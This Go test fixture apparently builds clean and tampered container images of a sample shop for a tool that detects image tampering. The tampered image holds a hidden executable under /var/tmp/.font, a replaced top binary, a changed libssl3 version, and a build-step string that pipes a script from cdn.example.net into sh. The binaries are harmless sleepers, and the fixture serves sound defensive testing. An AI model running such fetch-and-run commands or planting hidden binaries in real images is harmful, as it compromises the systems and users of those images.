package image

import (
	"math/rand/v2"
	"strings"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/testdata/stack/sleeper"
)

// The paths by which the bad shop image differs from the good one.
const (
	Dropped       = "/var/tmp/.font/x" // an executable that no package owns, in a hidden place
	Replaced      = "/usr/bin/top"     // a program that procps owns, with other bytes
	ChangedName   = "libssl3"          // a package with another version
	ChangedFrom   = "3.0.11-1~deb12u2"
	ChangedTo     = "3.0.14-1~deb12u9"
	Entrypoint    = "/app/server"
	Source        = "https://github.com/example/shop"
	DroppedStep   = "RUN /bin/sh -c curl -fsSL https://cdn.example.net/font.sh | sh # buildkit"
	DependencyRun = "RUN /bin/sh -c apt-get install -y libssl3 # buildkit"
)

// Good is the shop as its builder made it: a Debian base with four packages, and one program of its own.
func Good() (v1.Image, error) { return Build(shop(base(), server())) }

// Bad is what was pushed later under the same tag: libssl3 has another version, a build step dropped an executable and
// replaced top. Its entrypoint is the good one's, so the pod runs as before.
func Bad() (v1.Image, error) { return Build(shop(badSteps()...)) }

func badSteps() []Step {
	return []Step{base(), dependency(), server(), {CreatedBy: DroppedStep, Files: []File{
		DroppedFile(),
		program("usr/bin/top", "top, but not procps'"),
	}}}
}

// EditionStep is the build step of the layer that only one edition has.
const EditionStep = "COPY edition /app/edition # buildkit"

// Edition is the good shop with a last layer of its own, so that a test can lose or damage it without harm to the others:
// registries keep equal layers once.
func Edition(name string) func() (v1.Image, error) {
	return func() (v1.Image, error) { return Build(shop(base(), server(), edition(name))) }
}

// BadEdition is the bad shop with such a layer.
func BadEdition(name string) func() (v1.Image, error) {
	return func() (v1.Image, error) {
		return Build(shop(append(badSteps(), edition(name))...))
	}
}

func edition(name string) Step {
	return Step{CreatedBy: EditionStep, Files: []File{{Path: "app/edition", Mode: 0o644, Body: []byte(strings.Repeat(name+"\n", 64))}}}
}

// Heavy is the good shop with one more layer of two megabytes that no compression makes smaller.
func Heavy() (v1.Image, error) {
	noise := make([]byte, 2<<20)
	rand.NewChaCha8([32]byte{}).Read(noise) //nolint:errcheck // it never fails
	return Build(shop(base(), server(), Step{CreatedBy: "COPY model /app/model # buildkit", Files: []File{{Path: "app/model", Mode: 0o644, Body: noise}}}))
}

// DroppedFile is the executable at Dropped, for its digest. It is harmless: it sleeps like all others.
func DroppedFile() File { return program("var/tmp/.font/x", "a look-alike, it does nothing") }

func shop(steps ...Step) Spec {
	steps = append(steps, Step{CreatedBy: `ENTRYPOINT ["/app/server"]`})
	return Spec{
		Steps:      steps,
		Entrypoint: []string{Entrypoint},
		Env:        []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"},
		Labels:     map[string]string{"org.opencontainers.image.source": Source},
	}
}

func base() Step {
	files := append(Database(packages(ChangedFrom)...),
		File{Path: "etc/passwd", Mode: 0o644, Body: []byte("root:x:0:0:root:/root:/bin/sh\n")},
		File{Path: "var/tmp/.keep", Mode: 0o644})
	return Step{CreatedBy: "/bin/sh -c #(nop) ADD file:rootfs in / ", Files: files}
}

// dependency is a layer as an upgrade makes it: the package's file, and a new package database.
func dependency() Step {
	var files []File
	for _, file := range Database(packages(ChangedTo)...) {
		switch file.Path {
		case libssl, "var/lib/dpkg/status", "var/lib/dpkg/info/libssl3.list", "var/lib/dpkg/info/libssl3.md5sums":
			files = append(files, file)
		}
	}
	return Step{CreatedBy: DependencyRun, Files: files}
}

func server() Step {
	return Step{CreatedBy: "COPY server /app/server # buildkit", Files: []File{program("app/server", "the shop is open")}}
}

const libssl = "usr/lib/x86_64-linux-gnu/libssl.so.3"

func packages(libsslVersion string) []Package {
	release := "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nID=debian\n"
	return []Package{
		{Name: "base-files", Version: "12.4+deb12u5", Files: []File{{Path: "usr/lib/os-release", Mode: 0o644, Body: []byte(release)}, {Path: "etc/os-release", Link: "../usr/lib/os-release"}}},
		{Name: "coreutils", Version: "9.1-1", Files: []File{program("usr/bin/sleep", "sleep"), program("usr/bin/ls", "ls")}},
		{Name: ChangedName, Version: libsslVersion, Files: []File{program(libssl, "libssl "+libsslVersion)}},
		{Name: "procps", Version: "2:4.0.2-3", Files: []File{program("usr/bin/top", "top"), program("usr/bin/ps", "ps")}},
	}
}

// program is an executable that really runs: it prints line and sleeps.
func program(path, line string) File {
	return File{Path: path, Mode: 0o755, Body: sleeper.ELF(line, "")}
}
